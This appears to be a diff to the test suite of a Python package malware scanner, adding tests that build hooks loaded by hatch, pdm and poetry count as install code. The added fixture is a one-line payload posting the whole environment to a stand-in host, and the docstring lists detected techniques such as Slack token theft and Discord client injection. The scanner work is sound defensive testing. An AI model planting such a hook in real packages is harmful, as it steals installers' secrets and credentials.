@@ -10,7 +10,7 @@ walking the user's home sent from a function; a download run by ``mshta``; a she
 socket's streams; Defender turned off; Discord's client injected with a download; a Slack
 token written in, the user's name sent with it; a program the wheel ships started hidden
 when the package is imported; a command built from pieces (joined, concatenated,
-formatted). And what an
+formatted); build hooks hatch, pdm-backend and poetry load from the project. And what an
 sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
 installs.
 
@@ -619,3 +619,46 @@ def test_a_command_built_from_pieces_is_read_whole(init: str, held: bool) -> Non
     report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
     assert report.incomplete is None
     assert (not POLICY.decide(report).allowed) is held, report.findings
+
+
+ENVIRONMENT_SENT = (
+    "import os, requests\nrequests.post('https://c.example.com', data=str(dict(os.environ)))\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("pyproject", "hook"),
+    [
+        (
+            "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
+            "[tool.hatch.build.hooks.custom]\n",
+            "hatch_build.py",
+        ),
+        (
+            "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
+            "[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'tools/hooks.py'\n",
+            "tools/hooks.py",
+        ),
+        (
+            "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n",
+            "pdm_build.py",
+        ),
+        (
+            "[build-system]\nrequires = ['poetry-core']\n"
+            "build-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'build.py'\n",
+            "build.py",
+        ),
+    ],
+    ids=["hatch default", "hatch path", "pdm", "poetry"],
+)
+def test_a_build_hook_the_backend_loads_is_install_code(pyproject: str, hook: str) -> None:
+    members = {"PKG-INFO": pkg_info(), "pyproject.toml": pyproject, "demo/__init__.py": ""}
+    held = scan_archive(sdist({**members, hook: ENVIRONMENT_SENT}), "demo-1.0.tar.gz")
+    assert any(f.rule == "install-network" and f.file == hook for f in held.findings)
+    assert not POLICY.decide(held).allowed
+    # The same file, where no backend looks for it, is a module nothing runs.
+    elsewhere = scan_archive(
+        sdist({**members, "pyproject.toml": "[project]\nname = 'demo'\n", hook: ENVIRONMENT_SENT}),
+        "demo-1.0.tar.gz",
+    )
+    assert not any(f.rule == "install-network" for f in elsewhere.findings)
